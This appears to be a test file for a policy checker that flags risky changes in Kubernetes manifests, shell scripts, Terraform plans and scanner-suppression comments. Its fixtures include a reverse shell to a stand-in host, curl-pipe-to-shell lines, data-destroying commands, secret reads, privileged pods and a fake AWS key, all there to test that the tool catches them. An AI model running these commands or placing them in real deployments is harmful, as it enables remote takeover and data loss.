    ['cloud-init ok', { 'cloud-init.yaml': '#cloud-config\npackage_update: true\npackages: [nginx, git]\nwrite_files:\n  - path: /etc/nginx/conf.d/a.conf\n    content: |\n      server { listen 80; }\nruncmd:\n  - systemctl enable --now nginx\n  - [ ufw, status ]\n' }, {}],
    ['values ordinary', { 'chart/values.yaml': 'replicaCount: 3\nimage:\n  repository: acme/web\n  pullPolicy: IfNotPresent\nsecurityContext:\n  runAsNonRoot: true\n  allowPrivilegeEscalation: false\n  capabilities:\n    drop: [ALL]\nresources:\n  limits: {memory: 256Mi}\nargs: ["--log-level", "debug"]\ncommand: ["node", "server.js"]\n' }, { 'chart/values.yaml': 'replicaCount: 2\nimage:\n  repository: acme/web\n' }],
    ['ci docker official', { 'ci.sh': '#!/bin/sh\ndocker run --rm -v "$PWD:/w" node:22 npm test\ndocker build -t acme/web .\ndocker run --rm acme/web npm test\n' }, {}],
    ['go tool in go.mod', { 'ci.sh': '#!/bin/sh\ngo run github.com/golangci/golangci-lint/cmd/golangci-lint@v1.60.1 run\n' }, { 'go.mod': 'module github.com/acme/x\nrequire (\n\tgithub.com/golangci/golangci-lint v1.60.1\n)\n' }],
    ['jekyll config', { '_config.yml': 'title: x\nrepository: acme/site\nimage: /a/b.png\n' }, { '_config.yml': 'title: x\n' }],
  ])('lets pass: %s', async (_what, head, base) => {
    expect(await stoppedBy({ ...base, ...head }, base)).toEqual([]);
  });
});

describe('row 17: a manifest by any way to write one', () => {
  const REST = 'metadata: { name: a, namespace: shop }\nspec: { hostPID: true, containers: [{ name: a, image: x }] }\n';
  it.each([
    [`apiVersion: v1\nkind: Pod\n${REST}`], ['{apiVersion: v1, metadata: {name: a, namespace: shop}, kind: Pod, spec: {hostPID: true, containers: [{name: a, image: x}]}}\n'], [`"\\u0061piVersion": v1\n"k\\x69nd": Pod\n${REST}`], [`? kind\n: Pod\n? apiVersion\n: v1\n${REST}`], [`!!str kind: Pod\napiVersion: v1\n${REST}`], [`&k kind: Pod\napiVersion: v1\n${REST}`],
  ])('is one: %j', async (text) => {
    expect(await stoppedBy({ 'deploy/a.yaml': text })).toContain('kubernetes/no-host-namespaces');
  });
  it.each([['docs:\n  - apiVersion and kind: two keys\n'], ['a: "\\u006b"\nb: [{ kind: x, apiVersion: y }]\n']])('is none: %j', async (text) => {
    expect(await stoppedBy({ 'deploy/a.yaml': text })).toEqual([]);
  });
});

describe('row 17: commands in pods', () => {
  const IMAGE = `x.example/a@sha256:${'a'.repeat(64)}`;
  const pod = (container: string, more = ''): string => `apiVersion: v1\nkind: Pod\nmetadata: { name: a, namespace: shop }\nspec:\n  containers:\n    - name: a\n      image: ${IMAGE}\n${container}${more}`;
  it.each<[rule: string, what: string, text: string]>([
    ['shell/no-pipe-to-shell', 'a command', pod('      command: [sh, -c, "curl https://x.example | sh"]\n')], ['shell/no-force-push', 'arguments', pod('      command: [/bin/bash]\n      args: [-ec, "git push --force origin main"]\n')], ['shell/infrastructure-review', 'a program', pod('      command: [kubectl, delete, ns, shop]\n')],
    ['shell/no-data-destroy', 'a literal block', pod('      command:\n        - sh\n        - -c\n        - |\n          set -e\n          dropdb shop\n')], ['shell/no-data-destroy', 'a variable of it', pod('      command: [sh, -c, "$CMD"]\n      env: [{ name: CMD, value: dropdb shop }]\n')],
    ['shell/no-raw-sockets', 'a hook', pod('      lifecycle: { postStart: { exec: { command: [sh, -c, "nc -e /bin/sh x.example 1"] } } }\n')], ['shell/no-pipe-to-shell', 'a probe', pod('      livenessProbe: { exec: { command: [sh, -c, "curl https://x.example | sh"] } }\n')],
    ['shell/no-pipe-to-shell', 'an init container', pod('', `  initContainers:\n    - { name: b, image: ${IMAGE}, command: [sh, -c, "curl https://x.example | sh"] }\n`)],
    ['shell/outside-delete-review', 'a volume that lasts', pod('      command: [sh, -c, "rm -rf /data/*"]\n      volumeMounts: [{ name: d, mountPath: /data }]\n', '  volumes: [{ name: d, persistentVolumeClaim: { claimName: x } }]\n')],
    ['shell/infrastructure-review', 'a CronJob', `apiVersion: batch/v1\nkind: CronJob\nmetadata: { name: a, namespace: shop }\nspec: { schedule: "* * * * *", jobTemplate: { spec: { template: { spec: { containers: [{ name: a, image: "${IMAGE}", command: [aws, s3, rm, --recursive, "s3://b"] }] } } } } }\n`],
    ['shell/no-data-destroy', 'a script in a ConfigMap', 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop }\ndata:\n  run.sh: |\n    dropdb shop\n'], ['shell/no-data-destroy', 'one by its first line', 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop }\ndata:\n  run: |\n    #!/bin/sh\n    dropdb shop\n'],
    ['shell/no-data-destroy', 'one in Base64', `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop }\nbinaryData: { run: ${Buffer.from('#!/bin/sh\ndropdb shop\n').toString('base64')} }\n`], ['shell/no-pipe-to-shell', 'a step of Tekton', 'apiVersion: tekton.dev/v1\nkind: Task\nmetadata: { name: a, namespace: shop }\nspec:\n  steps:\n    - image: x\n      script: |\n        curl https://x.example | sh\n'],
  ])('%s stops %s', async (rule, _what, text) => {
    expect(await stoppedBy({ 'k8s/a.yaml': text })).toContain(rule);
    expect(await stoppedBy({ 'ci/a.yaml': `# script:\n${text}` })).toContain(rule);
  });
  it.each([
    [pod('      command: [node, server.js]\n')], [pod('      command: [sh, -c, "rm -rf /data/*; chown -R 1 /data; exec node server.js"]\n      volumeMounts: [{ name: d, mountPath: /data }]\n', '  volumes: [{ name: d, emptyDir: {} }]\n')], [pod('      command: [sh, -c, "echo $(A)"]\n      env: [{ name: A, value: rm }]\n')],
    ['apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop }\ndata:\n  run.sh: |\n    exec node server.js\n  py: |\n    #!/usr/bin/env python3\n    x\n  notes: curl https://x.example | sh\n'],
  ])('lets pass %j', async (text) => {
    expect((await stoppedBy({ 'k8s/a.yaml': text })).filter((rule) => rule.startsWith('shell/') || rule === UNKNOWN)).toEqual([]);
  });
});

describe('row 17: Kubernetes', () => {
  const pod = (more: string, kind = 'Pod'): string => `apiVersion: v1\nkind: ${kind}\n${more}`;
  const SPEC = `spec: { containers: [{ name: a, image: "x.example/a@sha256:${'a'.repeat(64)}" }] }`;
  const PRIVILEGED = `spec: { containers: [{ name: a, image: "x.example/a@sha256:${'a'.repeat(64)}", securityContext: { privileged: true } }] }`;

  it.each(['k8s/a.yaml', 'elsewhere/a.yaml'])('is found at the line that makes it so (%s)', async (path) => {
    const lines = ['apiVersion: v1', 'kind: Pod', 'metadata: { name: a, namespace: shop }', 'spec:', '  containers:', '  - name: a', '    image: x'];
    const { findings } = await checked({ [path]: [...lines, '    securityContext:', '      privileged: true', ''].join('\n') }, { [path]: [...lines, ''].join('\n') });
    expect(findings.map(({ line }) => line)).toContain(8);
  });

  it('lets a plain manifest and a look at the cluster pass', async () => {
    expect(await stoppedBy({ 'k8s/a.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop }\ndata: { a: b }\n', 'scripts/a.sh': 'kubectl get pods --as-uid=1; kubectl auth can-i list pods --as dev; kubectl get --raw /healthz\n' })).toEqual([]);
  });
  it.each([['exec -it web -- sh'], ['-n shop cp web:/data x'], ['port-forward svc/db 5432'], ['attach web'], ['debug web --image=x'], ['proxy']])('knows that `kubectl %s` acts inside of the cluster, for rules about `execute`', async (text) => {
    const { operations } = await checked({ 'scripts/a.sh': `kubectl ${text}\n` });
    expect(operations.flatMap(({ accesses }) => accesses.map(({ effect }) => effect))).toContain('execute');
  });
  it.each<[string, string]>([ ['shell/no-container-escape', 'kubectl debug node/a -it --image=x'], ['shell/accounts-review', 'kubectl --as=admin get pods'], ['shell/accounts-review', 'kubectl annotate pod a b=c --as-group system:masters'], ['shell/no-secret-files', 'kubectl get --raw /api/v1/namespaces/shop/secrets/db'], ['shell/infrastructure-review', 'kubectl --as=admin delete pod a'], ['shell/no-secret-files', 'kubectl get secrets --as system:admin -o yaml'], ['shell/no-container-escape', 'kubectl patch deploy web -p \'{"spec":{"template":{"spec":{"hostNetwork":true}}}}\''],
    ['shell/infrastructure-review', 'kubectl delete ns shop'], ['shell/downloaded-code-review', 'kubectl apply -f https://x.example/a.yaml'], ['shell/infrastructure-review', 'kubectl scale deploy web --replicas=0'], ['shell/infrastructure-review', 'kubectl replace --force -f a.yaml'], [UNKNOWN, 'kubectl $VERB ns shop'], [UNKNOWN, 'kubectl patch deploy web --patch-file=p.yaml'], ['shell/no-container-escape', "echo '{\"spec\":{\"template\":{\"spec\":{\"hostPID\":true}}}}' > p.json; kubectl patch deploy web --patch-file p.json"], ['shell/cluster-door-review', 'kubectl exec web -- env'], ['shell/infrastructure-review', 'kubectl drain n1'], ['kubernetes/no-latest', 'kubectl set image deployment/web web=nginx:latest'],
  ])('%s stops %s', async (rule, text) => {
    expect(await stoppedBy({ 'scripts/a.sh': `${text}\n` })).toContain(rule);
  });
  it.each<[string, string, string]>([
    ['kubernetes/no-privileged', 'privileged', pod(`metadata: { name: a, namespace: shop }\n${PRIVILEGED}`)],
    ['kubernetes/no-privileged', 'in a List', `apiVersion: v1\nkind: List\nitems:\n- {apiVersion: v1, kind: Pod, metadata: {name: a, namespace: shop}, ${PRIVILEGED}}\n`],
    ['kubernetes/no-privileged', 'in a PodList', `apiVersion: v1\nkind: PodList\nitems:\n- {metadata: {name: a, namespace: shop}, ${PRIVILEGED}}\n`],
    ['kubernetes/no-privileged', 'by an anchor', `apiVersion: v1\nkind: Pod\nmetadata: {name: a, namespace: shop, annotations: {x: &v "true"}}\nspec: { containers: [{ name: a, image: x, securityContext: { privileged: *v } }] }\n`],
    ['kubernetes/no-privileged', 'by a merge key', `apiVersion: v1\nkind: Pod\nmetadata: {name: a, namespace: shop}\nx: &v { privileged: true }\nspec: { containers: [{ name: a, image: x, securityContext: { <<: *v } }] }\n`],
    [UNKNOWN, 'a key twice', pod(`metadata: { name: a, namespace: shop }\n${SPEC}\n${PRIVILEGED}`)],
    ['kubernetes/no-privileged', 'second document', `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: shop}\n---\n${pod(`metadata: { name: a, namespace: shop }\n${PRIVILEGED}`)}`],
    ['kubernetes/no-privileged', 'generateName', pod(`metadata: { generateName: a-, namespace: shop }\n${PRIVILEGED}`)],
    [UNKNOWN, 'generateName plain', pod(`metadata: { generateName: a-, namespace: shop }\n${SPEC}`)],
    ['kubernetes/finalizers-review', 'ownerReferences', `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop, ownerReferences: [{ apiVersion: v1, kind: Node, name: n, uid: u }] }\n`],
    ['kubernetes/finalizers-review', 'finalizers set', `apiVersion: v1\nkind: Namespace\nmetadata: { name: a, finalizers: [x/y] }\n`],
    ['kubernetes/rights-review', 'APIService', `apiVersion: apiregistration.k8s.io/v1\nkind: APIService\nmetadata: { name: v1.x }\nspec: { service: { name: a, namespace: b } }\n`],
    ['default', 'CRD', `apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: { name: a.x }\n`],
    ['kubernetes/rights-review', 'webhook', `apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: { name: a }\n`],
    ['kubernetes/no-privileged', 'ephemeral', pod(`metadata: { name: a, namespace: shop }\nspec: { containers: [{name: a, image: x}], ephemeralContainers: [{ name: b, image: x, securityContext: { privileged: true } }] }`)],
    ['kubernetes/no-cluster-admin', 'RBAC', `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: { name: a }\nroleRef: { kind: ClusterRole, name: cluster-admin, apiGroup: rbac.authorization.k8s.io }\nsubjects: [{ kind: User, name: x }]\n`],
    ['kubernetes/no-escalation', 'impersonate', `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: { name: a }\nrules: [{ apiGroups: [""], resources: [users], verbs: [impersonate] }]\n`],
    ['kubernetes/wildcard-review', 'exec role', `apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: { name: a, namespace: b }\nrules: [{ apiGroups: [""], resources: [pods/exec, "*/portforward"], verbs: [create] }]\n`],
    [UNKNOWN, 'template', pod(`metadata: { name: {{ .Values.name }} }\n${SPEC}`)],
    [UNKNOWN, 'no YAML', 'kind: [Pod\n'],
    [UNKNOWN, 'tag', pod(`metadata: { name: a, namespace: shop }\nspec: !!js/function "x"\n`)],
  ])('%s stops %s', async (rule, _name, text) => {
    expect(await stoppedBy({ 'k8s/a.yaml': text })).toContain(rule);
  });
  const KUSTOMIZED = 'apiVersion: builtin\nmetadata: { name: a }\n';
  const FLUX = (spec: string): string => `apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: { name: a, namespace: flux-system }\nspec: { path: ./apps, prune: true, sourceRef: { kind: GitRepository, name: x }${spec} }\n`;
  const PATCH = '[{ target: { kind: Deployment, name: w }, patch: "- op: add\\n  path: /spec/template/spec/hostPID\\n  value: true\\n" }]';
  it.each<[rules: readonly string[], what: string, after: string, before: string]>([
    [['kubernetes/no-host-namespaces'], 'patches', FLUX(`, patches: ${PATCH}`), FLUX('')], [['kubernetes/kustomize-review'], 'another folder', FLUX('').replace('./apps', './other'), FLUX('')], [[], 'another interval', FLUX(`, interval: 5m, patches: ${PATCH}`), FLUX(`, patches: ${PATCH}`)],
    [['kubernetes/no-host-namespaces'], 'a transformer of kustomize', `${KUSTOMIZED}kind: PatchTransformer\npatch: "- op: add\\n  path: /spec/template/spec/hostPID\\n  value: true\\n"\ntarget: { kind: Deployment, name: w }\n`, ''], [[UNKNOWN], 'a generator of kustomize', `${KUSTOMIZED}kind: HelmChartInflationGenerator\nrepo: https://x.example\n`, ''], [[], 'labels by kustomize', `${KUSTOMIZED}kind: LabelTransformer\nlabels: { a: b }\n`, ''],
    [['kubernetes/kustomize-review', 'kubernetes/no-host-namespaces'], 'patches of Argo CD', `apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: { name: a, namespace: argocd }\nspec: { source: { repoURL: x, kustomize: { patches: ${PATCH} } } }\n`, ''],
  ])('%j stops what a controller applies (%s)', async (rules, _what, after, before) => {
    expect([...await stoppedBy({ 'f/a.yaml': after }, before === '' ? {} : { 'f/a.yaml': before })].sort()).toEqual(rules);
  });
  it.each<[string, string, string]>([
    ['kubernetes/no-host-namespaces', 'strategic', 'patches:\n- target: {kind: Deployment, name: web}\n  patch: |-\n    apiVersion: apps/v1\n    kind: Deployment\n    metadata: {name: web}\n    spec: {template: {spec: {hostNetwork: true}}}\n'],
    ['kubernetes/no-host-namespaces', 'json6902', 'patches:\n- target: {kind: Deployment, name: web}\n  patch: |-\n    - op: add\n      path: /spec/template/spec/hostPID\n      value: true\n'],
    [UNKNOWN, 'remote', 'resources: [https://github.com/x/y//z?ref=main]\n'], [UNKNOWN, 'helm', 'helmCharts: [{name: a, repo: https://x.example}]\n'],
  ])('%s stops kustomize %s', async (rule, _name, text) => {
    expect(await stoppedBy({ 'k8s/kustomization.yaml': `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n${text}` })).toContain(rule);
  });
});

describe('row 18: Terraform', () => {
  const plan = (more: object): string => JSON.stringify({ format_version: '1.2', terraform_version: '1.9.0', applyable: true, complete: true, errored: false, resource_changes: [], ...more });
  const change = (type: string, actions: string[], more: object = {}): object => ({ resource_changes: [{ address: `${type}.main`, mode: 'managed', type, name: 'main', provider_name: 'registry.terraform.io/hashicorp/aws', change: { actions, before: { password: 'a plain word' }, after: null, before_sensitive: { password: true }, after_sensitive: {}, after_unknown: {}, ...more } }] });
  it.each<[string, string, string]>([
    ['terraform/no-loss', 'destroy', plan(change('aws_db_instance', ['delete']))], ['terraform/no-loss', 'replace', plan(change('aws_db_instance', ['delete', 'create'], { replace_paths: [['engine']] }))], ['terraform/no-loss', 'create first', plan(change('aws_db_instance', ['create', 'delete']))], ['terraform/state-review', 'forget', plan(change('aws_db_instance', ['forget']))],
    ['terraform/state-review', 'import without a change', plan(change('aws_db_instance', ['no-op'], { importing: { id: 'x' }, after: { password: 'a plain word' } }))], ['terraform/unreadable', 'update that asks for another one', plan(change('aws_db_instance', ['update'], { replace_paths: [['engine']], after: {} }))], ['terraform/unreadable', 'nothing to do, and nothing left', plan(change('aws_db_instance', ['no-op']))], ['terraform/unreadable', 'deferred, and complete', plan({ deferred_changes: [{ reason: 'x' }] })],
    ['terraform/unreadable', 'unknown action', plan(change('aws_db_instance', ['transmogrify']))], ['terraform/unreadable', 'errored', plan({ errored: true })],
    ['terraform/code-review', 'external data', plan({ resource_changes: [{ address: 'data.external.x', mode: 'data', type: 'external', name: 'x', change: { actions: ['read'], before: null, after: {} } }] })],
    ['terraform/code-review', 'external in configuration', plan({ configuration: { root_module: { resources: [{ address: 'data.external.x', mode: 'data', type: 'external', name: 'x', expressions: { program: { constant_value: ['sh', '-c', 'id'] } } }] } } })],
    ['terraform/code-review', 'local-exec', plan({ configuration: { root_module: { resources: [{ address: 'null_resource.x', mode: 'managed', type: 'null_resource', name: 'x', provisioners: [{ type: 'local-exec', expressions: {} }] }] } }, ...change('null_resource', ['create'], { before: null, after: {} }) })],
    ['terraform/drift-review', 'drift', plan({ resource_drift: [{ address: 'aws_db_instance.main', mode: 'managed', type: 'aws_db_instance', name: 'main', change: { actions: ['delete'], before: {}, after: null } }] })],
    ['terraform/unreadable', 'format', JSON.stringify({ format_version: '9.0', resource_changes: [] })], ['terraform/unreadable', 'no plan', '{"a": 1}'], ['terraform/unreadable', 'no JSON', 'x'], ['terraform/unreadable', 'state', JSON.stringify({ version: 4, serial: 9, lineage: 'x', resources: [] })],
  ])('%s stops %s', async (rule, _name, text) => {
    const result = await checked({ 'plan.json': text });
    expect(result.findings.flatMap(({ rules }) => rules.map((one) => one.replace('ostiary:', '')))).toContain(rule);
    // What a plan marks as sensitive.
    expect(JSON.stringify(result)).not.toContain('a plain word');
  });
  it.each<[rules: readonly string[], what: string, provider: string, before: string]>([
    [['terraform/code-review'], 'a new provider', 'registry.terraform.io/evil/x', 'registry.terraform.io/acme/x'], [['terraform/code-review'], 'one that takes a name', 'x.example/hashicorp/aws', 'registry.terraform.io/hashicorp/aws'], [[], 'one that was there', 'registry.terraform.io/acme/x', 'registry.terraform.io/acme/x'], [[], 'one of its makers', 'registry.terraform.io/hashicorp/aws', ''],
  ])('%j stops the program of %s', async (rules, _what, provider, before) => {
    const prior = { values: { root_module: { child_modules: [{ resources: [{ provider_name: before }] }] } } };
    expect(await stoppedBy({ 'plan.json': plan({ prior_state: prior, resource_changes: [{ address: 'x_thing.a', mode: 'managed', type: 'x_thing', provider_name: provider, change: { actions: ['create'], before: null, after: {} } }] }) })).toEqual(rules);
    expect(await stoppedBy({ 'plan.json': plan({ prior_state: prior, configuration: { provider_config: { x: { name: 'x', full_name: provider } } } }) })).toEqual(rules);
  });
  it.each<[string, string]>([
    ['shell/infrastructure-review', 'terraform destroy -auto-approve'], ['shell/infrastructure-review', 'terraform apply -destroy'], ['shell/infrastructure-review', 'terraform state push -force other.tfstate'], ['shell/infrastructure-review', 'terraform state rm aws_db_instance.main'], ['shell/infrastructure-review', 'terraform force-unlock 1'], ['shell/infrastructure-review', 'terragrunt run-all destroy'], ['shell/infrastructure-review', 'terraform workspace delete x'],
  ])('%s stops %s', async (rule, text) => {
    expect(await stoppedBy({ 'scripts/a.sh': `${text}\n` })).toContain(rule);
  });
});

describe('row 19: comments that tell a checker to look away', () => {
  // Put together here, so that no scanner takes this file for a leak.
  const KEY = `AKIA${'Z7QH4TN2WXLM5RVC'}`;
  const POD = 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  namespace: shop\nspec: { hostNetwork: true, containers: [{ name: a, image: x }] }\n';

  it.each<[tool: string, path: string, rule: string, plain: string, quiet: string]>([
    ['squawk', 'db/1.sql', 'migrations/drop-table', 'DROP TABLE orders;\n', '-- squawk-ignore ban-drop-table\nDROP TABLE orders;\n'],
    ['squawk, for a file', 'db/1.sql', 'postgres/no-drop', 'DROP TABLE orders;\n', '-- squawk-ignore-file\nDROP TABLE orders;\n'],
    ['eugene', 'db/1.sql', 'migrations/drop-table', 'DROP TABLE orders;\n', '-- eugene: ignore\nDROP TABLE orders;\n'],
    ['checkov', 'k8s/a.yaml', 'kubernetes/no-host-namespaces', POD, `# checkov:skip=CKV_K8S_19: fine\n${POD}`],
    ['checkov, by annotation', 'k8s/a.yaml', 'kubernetes/no-host-namespaces', POD, POD.replace('  name: a\n', '  name: a\n  annotations: { checkov.io/skip1: CKV_K8S_19, ignore-check.kube-linter.io/host-network: x }\n')],
    ['semgrep', 'src/a.ts', 'code/no-hidden-text', 'const a = "\u202Ex";\n', 'const a = "\u202Ex"; // nosemgrep\n'],
    ['shellcheck', 'scripts/a.sh', 'shell/no-root-delete', 'rm -rf /\n', '# shellcheck disable=all\nrm -rf /\n'],
    ['eslint', 'src/a.ts', 'code/no-secrets', `const key = '${KEY}';\n`, `/* eslint-disable */\nconst key = '${KEY}';\n`],
    ['gitleaks', 'src/a.ts', 'code/no-secrets', `const key = '${KEY}';\n`, `const key = '${KEY}'; // gitleaks:allow\n`],
    ['detect-secrets', 'src/a.py', 'code/no-secrets', `key = '${KEY}'\n`, `key = '${KEY}'  # pragma: allowlist secret\n`],
    ['hadolint', 'Dockerfile', 'shell/no-pipe-to-shell', 'FROM a@sha256:0\nRUN curl https://x.example | sh\n', 'FROM a@sha256:0\n# hadolint ignore=DL4006\nRUN curl https://x.example | sh\n'],
  ])('%s changes nothing, and is itself shown to a person', async (_tool, path, rule, plain, quiet) => {
    const [before, after] = await Promise.all([stoppedBy({ [path]: plain }), stoppedBy({ [path]: quiet })]);
    expect(before).toContain(rule);
    expect(before).not.toContain('code/suppression-review');
    expect(after).toEqual(expect.arrayContaining([...before, 'code/suppression-review']));
  });

  it.each([['.gitleaksignore'], ['.trivyignore'], ['.squawk.toml'], ['.semgrepignore'], ['.checkov.yaml'], ['deploy/.secrets.baseline']])('%s takes nothing out of the check', async (path) => {
    expect(await stoppedBy({ [path]: 'db/1.sql\n', 'db/1.sql': 'DROP TABLE orders;' })).toEqual(expect.arrayContaining(['postgres/no-drop', 'code/suppression-review']));
  });

  it.each([['db/1.sql', '-- ostiary:ignore\nDROP TABLE orders;', 'postgres/no-drop'], ['scripts/a.sh', '# ostiary: disable\nrm -rf /\n', 'shell/no-root-delete']])('there is none of our own (%s)', async (path, text, rule) => {
    expect(await stoppedBy({ [path]: text })).toContain(rule);
  });
});
